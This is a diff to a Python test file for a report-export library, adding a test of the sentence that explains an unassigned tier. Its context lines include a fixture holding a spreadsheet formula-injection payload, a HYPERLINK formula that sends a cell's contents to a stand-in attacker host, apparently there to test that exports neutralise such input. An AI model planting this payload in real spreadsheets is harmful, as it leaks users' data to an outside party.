@@ -12,6 +12,7 @@ import pytest
 
 from tierwise.errors import TierwiseError
 from tierwise.report import SalesforceFields, export_results
+from tierwise.report.people import why
 
 CASE_18_NAMES = {
     "acc-1": '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
@@ -192,3 +193,13 @@ def test_an_export_replaces_its_own_file_and_keeps_others(
         "notes.txt",
         "tiers.xlsx",
     ]
+
+
+def test_the_reason_sentence_names_an_unknown_potential() -> None:
+    row = {"reason": "insufficient_data", "tier": "unassigned", "completeness": 88.0}
+
+    unknown = why({**row, "potential": None}, {})
+    known = why({**row, "potential": 250000.0}, {})
+
+    assert "potential is unknown" in unknown and "88% known" in unknown
+    assert known == "Too little of its data is known for a higher tier (88% known)."
